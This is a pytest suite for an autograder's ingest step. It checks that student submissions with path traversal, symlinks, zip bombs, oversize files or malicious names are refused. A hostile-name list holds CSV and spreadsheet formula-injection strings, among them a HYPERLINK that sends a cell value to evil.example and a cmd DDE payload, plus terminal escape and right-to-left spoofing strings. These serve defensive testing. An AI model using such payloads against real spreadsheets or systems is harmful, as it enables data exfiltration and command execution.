"""autograder.grading.ingest: only manifest files are taken; unsafe submissions are refused with a reason."""
import json
import os
import zipfile
from pathlib import Path

import pytest

from autograder.grading.ingest import IngestLimits, discover, ingest

ALLOWED = ("01_toy.ipynb", "nnkit/ops.py", "models/w.npy")
NOTEBOOK = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _tree(root: Path, files: dict) -> Path:
    for rel, data in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data if isinstance(data, bytes) else data.encode())
    return root


def _zip(path: Path, members: dict) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_folder_takes_only_manifest_files_and_never_touches_the_submission(tmp_path):
    sub = _tree(tmp_path / "subs" / "alice", {"01_toy.ipynb": NOTEBOOK, "nnkit/ops.py": "x = 1\n",
                                                "nnkit/helpers.py": "EVIL = 1\n", "notes.txt": "hi",
                                                ".ipynb_checkpoints/01_toy-checkpoint.ipynb": NOTEBOOK})
    before = _snapshot(sub)
    got = ingest("alice", sub, ALLOWED, tmp_path / "work" / "alice")
    assert got.accepted and sorted(got.files) == ["01_toy.ipynb", "nnkit/ops.py"]
    # The grader-owned helper is never taken from a student: it is restored from the release.
    assert sorted(got.ignored) == ["nnkit/helpers.py", "notes.txt"]
    assert sorted(_snapshot(got.workdir)) == ["01_toy.ipynb", "nnkit/ops.py"]
    assert _snapshot(sub) == before


def test_zip_of_the_assignment_folder_itself_is_unwrapped(tmp_path):
    z = _zip(tmp_path / "bob.zip", {"toy/01_toy.ipynb": NOTEBOOK, "toy/nnkit/ops.py": "y = 2\n",
                                    "__MACOSX/toy/._01_toy.ipynb": "junk"})
    got = ingest("bob", z, ALLOWED, tmp_path / "work")
    assert got.accepted and sorted(got.files) == ["01_toy.ipynb", "nnkit/ops.py"]
    assert (got.workdir / "nnkit" / "ops.py").read_text() == "y = 2\n"


@pytest.mark.parametrize("name, words", [
    ("../../escaped.py", "'..'"),
    ("nnkit/../../escaped.py", "'..'"),
    ("/tmp/absolute_escape.py", "absolute"),
    ("C:\\windows\\escape.py", "absolute"),
    ("nnkit/bad\x07name.py", "control"),
])
def test_zip_with_unsafe_paths_is_refused_and_writes_nothing_outside(tmp_path, name, words):
    z = _zip(tmp_path / "mallory.zip", {"01_toy.ipynb": NOTEBOOK, name: "pwned"})
    work = tmp_path / "area" / "work"
    got = ingest("mallory", z, ALLOWED, work)
    assert not got.accepted and words in got.refused[0]
    assert got.workdir is None and not work.exists()
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["area", "mallory.zip"]
    assert not Path("/tmp/absolute_escape.py").exists()


def test_symlinks_are_refused_in_folders_and_zips(tmp_path):
    secret = tmp_path / "gradebook.db"
    secret.write_text("secret")
    sub = _tree(tmp_path / "s1", {"01_toy.ipynb": NOTEBOOK})
    (sub / "nnkit").mkdir()
    os.symlink(secret, sub / "nnkit" / "ops.py")
    got = ingest("s1", sub, ALLOWED, tmp_path / "w1")
    assert not got.accepted and "symlink" in got.refused[0]

    z = tmp_path / "s2.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("01_toy.ipynb", NOTEBOOK)
        info = zipfile.ZipInfo("nnkit/ops.py")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)  # S_IFLNK
        zf.writestr(info, str(secret))
    got = ingest("s2", z, ALLOWED, tmp_path / "w2")
    assert not got.accepted and "symlink" in got.refused[0]


def test_device_files_are_refused(tmp_path):
    sub = _tree(tmp_path / "s", {"01_toy.ipynb": NOTEBOOK})
    os.mkfifo(sub / "pipe")
    got = ingest("s", sub, ALLOWED, tmp_path / "w")
    assert not got.accepted and "device, pipe or socket" in got.refused[0]


def test_oversize_files_archives_and_zip_bombs_are_refused(tmp_path):
    small = IngestLimits(max_file_bytes=1000, max_total_bytes=1500, max_archive_bytes=5000,
                         max_ratio=50, ratio_floor_bytes=100)
    sub = _tree(tmp_path / "big", {"01_toy.ipynb": NOTEBOOK, "nnkit/ops.py": "#" * 1001})
    got = ingest("big", sub, ALLOWED, tmp_path / "w1", small)
    assert not got.accepted and "1001 bytes" in got.refused[0]

    # Each file under the per-file cap, together over the total cap.
    sub = _tree(tmp_path / "total", {"01_toy.ipynb": NOTEBOOK + " " * 900, "nnkit/ops.py": "#" * 900})
    got = ingest("total", sub, ALLOWED, tmp_path / "w2", small)
    assert not got.accepted and "in total" in got.refused[0]

    # 900 zero bytes deflate to a handful: a ratio far above 50:1.
    bomb = _zip(tmp_path / "bomb.zip", {"01_toy.ipynb": NOTEBOOK, "nnkit/ops.py": b"\0" * 900})
    got = ingest("bomb", bomb, ALLOWED, tmp_path / "w3", small)
    assert not got.accepted and "zip bomb" in got.refused[0]

    big_zip = tmp_path / "huge.zip"
    with zipfile.ZipFile(big_zip, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("01_toy.ipynb", os.urandom(6000))
    got = ingest("huge", big_zip, ALLOWED, tmp_path / "w4", small)
    assert not got.accepted and "cap per archive" in got.refused[0]


def test_too_many_files_is_refused(tmp_path):
    sub = _tree(tmp_path / "many", {"01_toy.ipynb": NOTEBOOK, **{f"junk/{i}.txt": "x" for i in range(30)}})
    got = ingest("many", sub, ALLOWED, tmp_path / "w", IngestLimits(max_members=20))
    assert not got.accepted and "more than 20 files" in got.refused[0]


def test_undecodable_file_names_are_refused(tmp_path):
    sub = _tree(tmp_path / "enc", {"01_toy.ipynb": NOTEBOOK})
    with open(os.path.join(os.fsencode(sub), b"bad\xffname.py"), "wb") as f:
        f.write(b"x")
    got = ingest("enc", sub, ALLOWED, tmp_path / "w")
    assert not got.accepted and "not valid UTF-8" in got.refused[0]


def test_invalid_notebook_json_refuses_that_notebook_only(tmp_path):
    sub = _tree(tmp_path / "s", {"01_toy.ipynb": '{"cells": [', "nnkit/ops.py": "z = 3\n"})
    got = ingest("s", sub, ALLOWED, tmp_path / "w")
    assert got.accepted and got.files == ["nnkit/ops.py"]
    assert "invalid JSON" in got.refused_files["01_toy.ipynb"]
    assert not (got.workdir / "01_toy.ipynb").exists()


def test_bad_student_ids_and_empty_submissions_are_refused(tmp_path):
    sub = _tree(tmp_path / "x", {"01_toy.ipynb": NOTEBOOK})
    got = ingest("../etc", sub, ALLOWED, tmp_path / "w")
    assert not got.accepted and "bad student id" in got.refused[0]
    empty = _tree(tmp_path / "empty", {"readme.txt": "nothing here"})
    got = ingest("empty", empty, ALLOWED, tmp_path / "w2")
    assert not got.accepted and "no file of the assignment" in got.refused[0]


def test_discover_lists_zips_folders_and_strays(tmp_path):
    (tmp_path / "alice").mkdir()
    _zip(tmp_path / "bob.zip", {"01_toy.ipynb": NOTEBOOK})
    (tmp_path / "stray.txt").write_text("?")
    (tmp_path / ".hidden").mkdir()
    assert [(sid, p.name) for sid, p in discover(tmp_path)] == [
        ("alice", "alice"), ("bob", "bob.zip"), ("stray.txt", "stray.txt")]
    with pytest.raises(FileNotFoundError, match="--submissions"):
        discover(tmp_path / "nope")


# Names a hostile class might choose for their submission (issue 9, mechanism 7).
HOSTILE_NAMES = [
    '=HYPERLINK("evil.example?x="&A1,"click")',  # no '/': a name is one path component
    "+cmd|' -C calc'!A0.zip",
    "evil\nFAKE,graded,77,77",
    "esc\x1b[2J\x1b[31mred",
    "rtl\u202egpj.exe",
    "x" * 251,
    "y" * 251 + ".zip",
    "@SUM(1+1)",
    "-rf",
    "invalid-0123456789",  # the surrogates' prefix is reserved
    "tab\tname",
]


def _hostile_class(root: Path) -> int:
    """A submissions folder: alice (valid) and one entry per hostile name; returns the entry count."""
    _tree(root / "alice", {"01_toy.ipynb": NOTEBOOK})
    for name in HOSTILE_NAMES:
        if name.endswith(".zip"):
            _zip(root / name, {"01_toy.ipynb": NOTEBOOK})
        else:
            _tree(root / name, {"01_toy.ipynb": NOTEBOOK})
    os.mkdir(os.path.join(os.fsencode(root), b"bad\xffbytes"))  # not UTF-8 at all
    return 1 + len(HOSTILE_NAMES) + 1


def test_hostile_submission_names_get_surrogate_ids_and_escaped_reasons(tmp_path):
    from autograder.grading.ingest import STUDENT_ID

    count = _hostile_class(tmp_path / "subs")
    found = discover(tmp_path / "subs")
    assert len(found) == count and len({sid for sid, _ in found}) == count
    for sid, path in found:
        assert STUDENT_ID.match(sid), repr(sid)
        got = ingest(sid, path, ALLOWED, tmp_path / "work" / sid)
        if sid == "alice":
            assert got.accepted
            continue
        assert sid.startswith("invalid-") and not got.accepted and got.workdir is None
        reason = got.refused[0]
        assert "not a valid student id" in reason and reason.isascii() and reason.isprintable()
        assert len(reason) < 400
    # The escaped name is in the reason, so an instructor can find the submission.
    rtl = next(sid for sid, p in found if p.name == "rtl\u202egpj.exe")
    assert "\\u202e" in ingest(rtl, tmp_path / "subs" / "rtl\u202egpj.exe", ALLOWED, tmp_path / "w").refused[0]


def test_hostile_names_leave_grades_csv_intact_with_one_row_per_submission(tmp_path):
    """discover + ingest + outputs, as grade() chains them: the run ends and every file is sound."""
    import csv

    from autograder.grading import outputs
    from autograder.grading.ingest import STUDENT_ID

    count = _hostile_class(tmp_path / "subs")
    results = []
    for sid, path in discover(tmp_path / "subs"):
        got = ingest(sid, path, ALLOWED, tmp_path / "work" / sid)
        results.append({"student_id": sid, "status": "graded" if got.accepted else "rejected", "score": None,
                        "max_score": 5.0, "flags": [] if got.accepted else ["rejected"], "reasons": got.refused,
                        "cells": []})
    out = tmp_path / "out"
    out.mkdir()
    outputs.write_all(out, "toy", results)
    text = (out / "grades.csv").read_text(encoding="utf-8")
    assert "\x1b" not in text and "\u202e" not in text and "FAKE,graded" not in text
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["student_id", "status", "score", "max_score", "late_penalty", "flags"]
    assert len(rows) == 1 + count and len(text.splitlines()) == 1 + count
    for row in rows[1:]:
        assert STUDENT_ID.match(row[0])
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert sorted(p.name for p in (out / "results").iterdir()) == sorted(f"{r[0]}.json" for r in rows[1:])
    assert "\x1b" not in outputs.format_table(results) and "\u202e" not in outputs.format_table(results)
